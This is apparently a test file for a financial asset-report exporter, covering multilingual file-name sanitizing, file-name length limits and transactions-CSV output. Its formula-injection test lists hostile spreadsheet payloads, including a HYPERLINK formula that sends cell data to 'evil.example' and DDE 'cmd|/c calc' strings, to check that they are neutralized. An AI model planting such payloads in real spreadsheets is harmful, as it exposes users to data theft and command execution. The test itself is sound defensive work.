import type { AssetReportGetResult } from '../../shared/asset-report';
import type { ReportSummary } from '../../shared/domain';
import { exportFileName, fileNamePart, transactionsCsv } from '../../electron/services/export/report-files';

const summary = {
  id: 'r1',
  loanNumber: 'LN-7',
  plaidReportId: '1f414183-aaaa-bbbb',
  readyAt: '2026-11-07T10:00:00.000Z',
  createdAt: '2026-11-07T09:00:00.000Z',
  kind: 'create',
} as ReportSummary;

describe('export file names keep every letter', () => {
  it.each([
    ["Ñúñez-O'Brien", 'Nunez-OBrien'],
    ['Łódź Straße', 'Lodz-Strasse'],
    ['Zoë  Müller', 'Zoe-Muller'],
    ['王小明', '王小明'],
    ['Жукова', 'Жукова'],
    ['Йонкова', 'Йонкова'], // й is a letter of its own, not an accented и
    ['शर्मा', 'शर्मा'], // Devanagari vowel signs and virama are part of the spelling
    ['Nguyễn Thị', 'Nguyen-Thi'],
    ['Ἀλέξανδρος', 'Ἀλέξανδρος'],
    ['a/b\\c:d*e?f"g<h>i|j', 'a-b-c-d-e-f-g-h-i-j'],
    ['...', 'x'],
  ])('%s → %s', (name, part) => {
    expect(fileNamePart(name)).toBe(part);
  });
  it('the whole name', () => {
    expect(exportFileName(summary, "Ñúñez-O'Brien", '2026-11-06', 'csv')).toBe(
      'LN-7_Nunez-OBrien_AssetReport_2026-11-06_1f414183_Transactions.csv',
    );
  });

  it('says which report and which file it is, so no two exports share a name', () => {
    const names = (['create', 'refresh', 'filter'] as const).flatMap((kind) => {
      const of = { ...summary, kind };
      return [
        exportFileName(of, 'Lopez', '2026-11-06', 'pdf'),
        exportFileName(of, 'Lopez', '2026-11-06', 'pdf', true),
        exportFileName(of, 'Lopez', '2026-11-06', 'json'),
        exportFileName(of, 'Lopez', '2026-11-06', 'csv'),
      ];
    });
    expect(new Set(names).size).toBe(names.length);
    expect(names).toContain('LN-7_Lopez_AssetReport_2026-11-06_1f414183_WithCoverPage.pdf');
    expect(names).toContain('LN-7_Lopez_AssetReport-Refresh_2026-11-06_1f414183.pdf');
    expect(names).toContain('LN-7_Lopez_AssetReport-Filtered_2026-11-06_1f414183.json');
  });

  it.each([
    ['王'.repeat(100), '王'.repeat(26)],
    ['शर्मा'.repeat(10), `${'शर्मा'.repeat(5)}श`], // cut between letters, never off a letter's marks
    ['Wolfeschlegelsteinhausenbergerdorff-Fitzgerald-Montgomery', 'Wolfeschlegelsteinhausenbergerdorff-Fitz'],
    ['Vasquez Rodriguez de los Santos Villanueva y Castellanos', 'Vasquez-Rodriguez-de-los-Santos-Villanue'],
  ])('a long name is cut to fit every disk (%s)', (name, part) => {
    expect(fileNamePart(name)).toBe(part);
    const file = exportFileName({ ...summary, loanNumber: `LN-${'9'.repeat(37)}` }, name, '2026-11-06', 'pdf', true);
    // 255 bytes per name on Linux and macOS; 255 UTF-16 units on Windows, with room left for the folder's path.
    expect(Buffer.byteLength(file, 'utf8')).toBeLessThanOrEqual(200);
    expect(file.length).toBeLessThanOrEqual(150);
  });
});

describe('transactions CSV', () => {
  const report = {
    report: {
      items: [
        {
          institution_name: 'First Platypus Bank',
          accounts: [
            {
              name: 'Plaid Checking',
              mask: '0000',
              transactions: [
                {
                  date: '2026-10-01',
                  amount: -7350,
                  original_description: 'PAYROLL, ACME',
                  merchant_name: 'Acme',
                  category: ['Transfer', 'Payroll'],
                  iso_currency_code: 'USD',
                  pending: false,
                  transaction_id: 'txn-payroll',
                },
                {
                  date: '2026-10-02',
                  amount: 12.5,
                  original_description: 'Coffee',
                  iso_currency_code: 'USD',
                  pending: true,
                  transaction_id: 'txn-coffee',
                },
              ],
            },
          ],
        },
      ],
    },
  } as unknown as AssetReportGetResult;

  it('uses the screen’s sign (deposits +), says so in the header, names bank, account, mask, merchant, category', () => {
    const lines = transactionsCsv(report).split('\r\n');
    expect(lines[0]).toBe(
      '\uFEFFdate,bank,account,mask,description,merchant,category,amount (+ money in / - money out),currency,pending,transaction id',
    );
    expect(lines[1]).toBe(
      '2026-10-01,First Platypus Bank,Plaid Checking,0000,"PAYROLL, ACME",Acme,Transfer > Payroll,7350.00,USD,no,txn-payroll',
    );
    // A pending transaction says so: it may still change or drop out.
    expect(lines[2]).toBe('2026-10-02,First Platypus Bank,Plaid Checking,0000,Coffee,,,-12.50,USD,yes,txn-coffee');
    expect(lines[3]).toBe('');
  });

  it('starts with a UTF-8 byte-order mark so Excel opens names in any script as written', () => {
    const named = structuredClone(report);
    const [item] = named.report.items;
    if (item) item.institution_name = 'Банк 王 Ñúñez';
    const bytes = Buffer.from(transactionsCsv(named), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain(',Банк 王 Ñúñez,');
    expect(transactionsCsv(named).indexOf('\uFEFF', 1)).toBe(-1);
  });
});

describe('transactions CSV against formula injection', () => {
  const withText = (text: string, amount = 12.5) =>
    ({
      report: {
        items: [
          {
            institution_name: text,
            accounts: [
              {
                name: text,
                mask: text,
                transactions: [
                  {
                    date: '2026-10-02',
                    amount,
                    original_description: text,
                    merchant_name: text,
                    category: [text],
                    iso_currency_code: text,
                  },
                ],
              },
            ],
          },
        ],
      },
    }) as unknown as AssetReportGetResult;
  /** The second line's cells, read back as RFC 4180 (quotes undone). */
  const cells = (csv: string): string[] => {
    const line = csv.split('\r\n')[1]!;
    const out: string[] = [];
    for (const match of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
      const raw = match[1]!;
      out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
      if (match[2] === '') break;
    }
    return out;
  };

  it.each([
    '=HYPERLINK("https://evil.example/?d="&A1,"Payroll")',
    "+1+cmd|'/c calc'!A1",
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\tTAB=1+1',
    '\r=1+1',
  ])('a text cell starting %j is written with a leading quote, so a spreadsheet shows it as text', (text) => {
    const row = cells(transactionsCsv(withText(text)));
    // date, bank, account, mask, description, merchant, category, amount, currency, pending, transaction id
    expect(row).toHaveLength(11);
    for (const index of [1, 2, 3, 4, 5, 6, 8]) expect(row[index], `column ${index}`).toBe(`'${text}`);
  });

  it('amounts stay numbers (a withdrawal keeps its minus sign), ordinary text is unchanged', () => {
    const row = cells(transactionsCsv(withText('Coffee - 2 cups', 12.5)));
    expect(row[7]).toBe('-12.50');
    expect(row[4]).toBe('Coffee - 2 cups');
    expect(cells(transactionsCsv(withText('Payroll', -7350)))[7]).toBe('7350.00');
  });
});
